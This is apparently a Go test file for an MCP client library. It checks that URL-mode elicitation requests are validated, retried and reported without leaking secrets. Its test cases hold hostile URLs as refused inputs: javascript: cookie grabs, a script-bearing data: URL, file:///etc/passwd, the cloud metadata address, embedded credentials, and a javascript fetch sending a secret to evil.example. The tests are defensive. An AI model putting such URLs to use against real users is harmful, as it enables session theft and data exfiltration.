package mcp

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgate/toolgate/core"
)

// urlSecret is planted in the query of URLs the tests refuse or name.
const urlSecret = "url-secret-Kd72"

// urlHook records the params it gets and answers action.
type urlHook struct {
	mu     sync.Mutex
	params []string
	action string
}

func (u *urlHook) hook() *Hook {
	return hookFn("u", func(_ context.Context, params json.RawMessage) (json.RawMessage, error) {
		u.mu.Lock()
		u.params = append(u.params, string(params))
		u.mu.Unlock()
		return json.RawMessage(`{"action":"` + u.action + `","content":{"x":"dropped"}}`), nil
	})
}

func (u *urlHook) seen() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string{}, u.params...)
}

func TestElicitationURLCheck(t *testing.T) {
	loop := &Security{AllowURLs: true, AllowLoopbackHTTP: true}
	cases := []struct {
		name, url string
		sec       *Security
		rule      Rule
	}{
		{"https to any public host, whatever the allowlist", "https://pay.example.com/connect?id=1", &Security{AllowURLs: true, URLAllowlist: []string{"mcp.example.com"}}, ""},
		{"http to loopback under allowLoopbackHttp", "http://127.0.0.1:8080/connect", loop, ""},
		{"http to loopback without it", "http://127.0.0.1:8080/connect", &Security{AllowURLs: true}, RuleScheme},
		{"http to a public host", "http://evil.example/?token=" + urlSecret, loop, RuleScheme},
		{"javascript:", "javascript:alert(document.cookie)//" + urlSecret, loop, RuleElicitationURL},
		{"data:", "data:text/html,<script>" + urlSecret + "</script>", loop, RuleElicitationURL},
		{"file:", "file:///etc/passwd", loop, RuleElicitationURL},
		{"wss:", "wss://x.example/", loop, RuleElicitationURL},
		{"userinfo", "https://user:" + urlSecret + "@pay.example.com/", loop, RuleUserinfo},
		{"cloud metadata", "https://169.254.169.254/latest", loop, RuleIPForbidden},
		{"a backslash browsers read as a slash", `https://pay.example.com\@evil.example/`, loop, RuleCharacters},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			e := elicitationURLCheck(tc.url, tc.sec)
			if tc.rule == "" {
				assert.Nil(t, e)
				return
			}
			require.NotNil(t, e)
			assert.Equal(t, core.CodePolicyDenied, e.Code)
			assert.Equal(t, string(tc.rule), e.Rule)
			noSecret(t, e.Message, urlSecret)
		})
	}
}

func TestURLElicitationIsDeclaredOnlyWithItsHook(t *testing.T) {
	u := &urlHook{action: "accept"}
	cases := []struct {
		name  string
		hooks *ClientHooks
		want  string
	}{
		{"form only", &ClientHooks{Elicitation: fixedHook("e", `{}`)}, `{"elicitation":{"form":{}}}`},
		{"url only", &ClientHooks{ElicitationURL: u.hook()}, `{"elicitation":{"url":{}}}`},
		{"both", &ClientHooks{Elicitation: fixedHook("e", `{}`), ElicitationURL: u.hook()}, `{"elicitation":{"form":{},"url":{}}}`},
		{"sampling with tools", &ClientHooks{Sampling: fixedHook("s", `{}`), SamplingTools: true}, `{"sampling":{"tools":{}}}`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			a := newAskingServer(t)
			_, m := registerAsking(t, a, tc.hooks)
			fc := invoke(t, m, "mcp__a__t", nil)
			require.Equal(t, core.StatusCompleted, fc.Status, "got %v", fc.Err)
			got, _ := json.Marshal(a.capabilities())
			assert.JSONEq(t, tc.want, string(got))
			meta, _ := jsonLookup(modernMeta(tc.hooks), metaClientCapabilities)
			var caps map[string]any
			require.NoError(t, json.Unmarshal(meta, &caps))
			delete(caps, "extensions") // the tasks extension, declared always (task_modern.go)
			modern, _ := json.Marshal(caps)
			assert.JSONEq(t, tc.want, string(modern), "the 2026-07-28 _meta spells them alike")
		})
	}
}

// jsonLookup is one member of a JSON object.
func jsonLookup(obj json.RawMessage, key string) (json.RawMessage, bool) {
	var m map[string]json.RawMessage
	if json.Unmarshal(obj, &m) != nil {
		return nil, false
	}
	v, ok := m[key]
	return v, ok
}

func TestALegacyServersURLElicitationReachesTheHookOnlyWhenItsURLPasses(t *testing.T) {
	u := &urlHook{action: "accept"}
	a := newAskingServer(t)
	_, m := registerAsking(t, a, &ClientHooks{ElicitationURL: u.hook()})
	good := `{"mode":"url","url":"https://pay.example.com/connect?state=abc","message":"Connect your account","elicitationId":"el-1"}`
	a.setCall(a.askThenAnswer(t,
		[2]string{"elicitation/create", good},
		[2]string{"elicitation/create", `{"mode":"url","url":"javascript:alert(1)//` + urlSecret + `","message":"m","elicitationId":"el-2"}`},
		[2]string{"elicitation/create", `{"mode":"url","url":"http://evil.example/?token=` + urlSecret + `","message":"m","elicitationId":"el-3"}`},
		[2]string{"elicitation/create", `{"mode":"url","url":"https://user:` + urlSecret + `@pay.example.com/","message":"m","elicitationId":"el-4"}`},
	))
	fc := invoke(t, m, "mcp__a__t", nil)
	require.Equal(t, core.StatusCompleted, fc.Status, "got %v", fc.Err)
	got := fc.Response.(string)
	noSecret(t, got, urlSecret)
	lines := strings.Split(got, "\n")
	require.Len(t, lines, 4)
	assert.Equal(t, `s:ask-0: {"action":"accept"}`, lines[0], "content is dropped in URL mode")
	assert.Contains(t, lines[1], `s:ask-1: error -32602 URL-mode elicitation refused: URL`)
	assert.Contains(t, lines[1], `"elicitation-url"`)
	assert.Contains(t, lines[2], `s:ask-2: error -32602 URL-mode elicitation refused:`)
	assert.Contains(t, lines[2], `"scheme"`)
	assert.Contains(t, lines[3], `"userinfo"`)
	require.Equal(t, []string{good}, u.seen(), "only the URL that passed reached the hook, as the server sent it")

	a.setCall(a.askThenAnswer(t, [2]string{"elicitation/create", `{"message":"a form","requestedSchema":{"type":"object","properties":{}}}`}))
	fc = invoke(t, m, "mcp__a__t", nil)
	require.Equal(t, core.StatusCompleted, fc.Status, "got %v", fc.Err)
	assert.Equal(t, "s:ask-0: error -32602 Client does not support form-mode elicitation requests (the registration gives elicitationUrl only)", fc.Response)
}

// requiredServer answers tools/call with URLElicitationRequiredError
// (-32042) for the elicitations given, `refusals` times, then with "done";
// its GET stream sends notifications/elicitation/complete for each id put
// on complete.
type requiredServer struct {
	*askingServer
	calls    atomic.Int32
	complete chan string
}

func newRequiredServer(t *testing.T, refusals int32, elicitations string) *requiredServer {
	s := &requiredServer{askingServer: newAskingServer(t), complete: make(chan string, 8)}
	s.get = func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.WriteHeader(http.StatusOK)
		w.(http.Flusher).Flush()
		for {
			select {
			case id := <-s.complete:
				fmt.Fprintf(w, "data: {\"jsonrpc\":\"2.0\",\"method\":\"notifications/elicitation/complete\",\"params\":{\"elicitationId\":%q}}\n\n", id)
				w.(http.Flusher).Flush()
			case <-r.Context().Done():
				return
			case <-s.stop:
				return
			}
		}
	}
	s.setCall(func(w http.ResponseWriter, _ *http.Request, m rpcMessage) {
		if s.calls.Add(1) <= refusals {
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"jsonrpc":"2.0","id":%s,"error":{"code":-32042,"message":"open %s first","data":{"elicitations":%s}}}`,
				m.ID, "https://pay.example.com/?token="+urlSecret, elicitations)
			return
		}
		writeResult(w, m.ID, map[string]any{"content": []any{map[string]any{"type": "text", "text": "done"}}})
	})
	return s
}

const twoRequired = `[{"mode":"url","elicitationId":"el-a","url":"https://pay.example.com/connect?token=` + urlSecret + `","message":"Pay"},
	{"mode":"url","elicitationId":"el-b","url":"https://files.example.org/auth?code=` + urlSecret + `","message":"Files"}]`

func TestURLElicitationRequiredRunsTheHookAndRetries(t *testing.T) {
	s := newRequiredServer(t, 1, twoRequired)
	var completed []string
	var mu sync.Mutex
	var ids []string
	hook := hookFn("u", func(_ context.Context, params json.RawMessage) (json.RawMessage, error) {
		var p struct{ ElicitationID string }
		_ = json.Unmarshal(params, &p)
		mu.Lock()
		ids = append(ids, p.ElicitationID)
		mu.Unlock()
		return json.RawMessage(`{"action":"accept"}`), nil
	})
	listener := hookFn("c", func(_ context.Context, params json.RawMessage) (json.RawMessage, error) {
		mu.Lock()
		completed = append(completed, string(params))
		mu.Unlock()
		return nil, nil
	})
	_, m := registerAsking(t, s.askingServer, &ClientHooks{ElicitationURL: hook, ElicitationComplete: listener})
	fc := invoke(t, m, "mcp__a__t", nil)
	require.Equal(t, core.StatusCompleted, fc.Status, "got %v", fc.Err)
	assert.Equal(t, "done", fc.Response)
	assert.Equal(t, int32(2), s.calls.Load(), "the call and one retry")
	// the user finishes after the call returned: the server says so on its
	// GET stream, and the listener still hears it
	mu.Lock()
	for _, id := range ids {
		s.complete <- id
	}
	mu.Unlock()
	waitUntil(t, "the listener heard both completions", func() bool { mu.Lock(); defer mu.Unlock(); return len(completed) == 2 })
	assert.ElementsMatch(t, []string{`{"elicitationId":"el-a","server":"a"}`, `{"elicitationId":"el-b","server":"a"}`}, completed)
}

func TestURLElicitationRequiredWaitsForCompletionWhenTheFirstRetryIsRefused(t *testing.T) {
	s := newRequiredServer(t, 2, twoRequired)
	var pushed atomic.Int32
	hook := hookFn("u", func(context.Context, json.RawMessage) (json.RawMessage, error) {
		return json.RawMessage(`{"action":"accept"}`), nil // at consent: the user is still on the page
	})
	_, m := registerAsking(t, s.askingServer, &ClientHooks{ElicitationURL: hook})
	go func() { // the user finishes once the first retry was refused
		waitUntil(t, "the first retry", func() bool { return s.calls.Load() >= 2 })
		s.complete <- "el-a"
		s.complete <- "el-b"
		pushed.Store(2)
	}()
	fc := invoke(t, m, "mcp__a__t", nil)
	require.Equal(t, core.StatusCompleted, fc.Status, "got %v", fc.Err)
	assert.Equal(t, int32(3), s.calls.Load(), "the call, the retry at once, the retry after the completions")
	assert.Equal(t, int32(2), pushed.Load())
}

func TestURLElicitationRequiredFailsTyped(t *testing.T) {
	t.Run("without the hook: unsupported, naming the origins only", func(t *testing.T) {
		s := newRequiredServer(t, 1, twoRequired)
		_, m := registerAsking(t, s.askingServer, &ClientHooks{Elicitation: fixedHook("e", `{"action":"cancel"}`)})
		fc := invoke(t, m, "mcp__a__t", nil)
		ce := callError(t, fc, core.CodeUnsupported)
		assert.Equal(t, RuleURLElicitationRequired, ce.Rule)
		assert.Contains(t, ce.Message, "https://pay.example.com, https://files.example.org")
		assert.Contains(t, ce.Message, "elicitationUrl")
		require.NotNil(t, ce.Transport)
		assert.Equal(t, rpcURLElicitationRequired, *ce.Transport.RPCCode)
		assertNoSecretIn(t, ce)
		assert.Equal(t, int32(1), s.calls.Load(), "no retry")
	})
	t.Run("a declined elicitation: policy-denied", func(t *testing.T) {
		s := newRequiredServer(t, 1, twoRequired)
		u := &urlHook{action: "decline"}
		_, m := registerAsking(t, s.askingServer, &ClientHooks{ElicitationURL: u.hook()})
		ce := callError(t, invoke(t, m, "mcp__a__t", nil), core.CodePolicyDenied)
		assert.Equal(t, string(RuleElicitationDeclined), ce.Rule)
		assert.Len(t, u.seen(), 1, "the second URL is not asked for")
		assertNoSecretIn(t, ce)
		assert.Equal(t, int32(1), s.calls.Load())
	})
	t.Run("a refused URL: policy-denied with the URL rule, the hook never asked", func(t *testing.T) {
		s := newRequiredServer(t, 1, `[{"mode":"url","elicitationId":"x","url":"https://pay.example.com/ok","message":"m"},
			{"mode":"url","elicitationId":"y","url":"javascript:fetch('//evil.example/?`+urlSecret+`')","message":"m"}]`)
		u := &urlHook{action: "accept"}
		_, m := registerAsking(t, s.askingServer, &ClientHooks{ElicitationURL: u.hook()})
		ce := callError(t, invoke(t, m, "mcp__a__t", nil), core.CodePolicyDenied)
		assert.Equal(t, string(RuleElicitationURL), ce.Rule)
		assert.Empty(t, u.seen())
		assertNoSecretIn(t, ce)
	})
	t.Run("still required after the retry, no completion: no second retry", func(t *testing.T) {
		s := newRequiredServer(t, 5, twoRequired)
		u := &urlHook{action: "accept"}
		p := NewPool(nil)
		t.Cleanup(func() { _ = p.Cleanup(context.Background()) })
		m := core.NewManager(nil)
		sec := loopback()
		sec.TimeoutMs = 300 // the server never says complete: the wait after the refused retry ends at timeoutMs
		_, err := RegisterServer(context.Background(), p, m, &ServerConfig{Name: "a", URL: s.url},
			&RegisterOptions{Security: sec, ToolNames: []string{"t"}, Hooks: &ClientHooks{ElicitationURL: u.hook()}})
		require.NoError(t, err)
		ce := callError(t, invoke(t, m, "mcp__a__t", nil), core.CodeTransport)
		assert.Equal(t, RuleURLElicitationRequired, ce.Rule)
		assert.Equal(t, int32(2), s.calls.Load(), "the call and one retry")
		assert.Len(t, u.seen(), 2)
		assertNoSecretIn(t, ce)
	})
	t.Run("malformed data", func(t *testing.T) {
		s := newRequiredServer(t, 1, `[{"mode":"form","message":"m"}]`)
		_, m := registerAsking(t, s.askingServer, &ClientHooks{ElicitationURL: (&urlHook{action: "accept"}).hook()})
		ce := callError(t, invoke(t, m, "mcp__a__t", nil), core.CodeTransport)
		assert.Equal(t, RuleURLElicitationRequired, ce.Rule)
		assert.Contains(t, ce.Message, `elicitations[0] is not a URL-mode elicitation`)
	})
}

// callError is fc's error, which must have code.
func callError(t *testing.T, fc *core.FunctionCalling, code core.Code) *core.Error {
	t.Helper()
	require.Equal(t, core.StatusFailed, fc.Status)
	var ce *core.Error
	require.True(t, errors.As(fc.Err, &ce), "got %T %v", fc.Err, fc.Err)
	assert.Equal(t, code, ce.Code, "got %v", ce)
	return ce
}

// assertNoSecretIn checks ce's JSON (message, details) for urlSecret.
func assertNoSecretIn(t *testing.T, ce *core.Error) {
	t.Helper()
	b, _ := json.Marshal(ce)
	noSecret(t, string(b), urlSecret)
}

func TestCompletionNotificationsOfUnknownIDsAreIgnored(t *testing.T) {
	var p pendingElicitations
	ch := p.expect("a")
	assert.False(t, p.complete("b"), "unknown")
	assert.True(t, p.complete("a"))
	<-ch // closed
	assert.False(t, p.complete("a"), "already completed")
	for i := 0; i < maxPendingElicitations+1; i++ {
		p.expect(fmt.Sprint(i))
	}
	assert.False(t, p.complete("0"), "the oldest was forgotten past the bound")
	assert.True(t, p.complete(fmt.Sprint(maxPendingElicitations)))
}
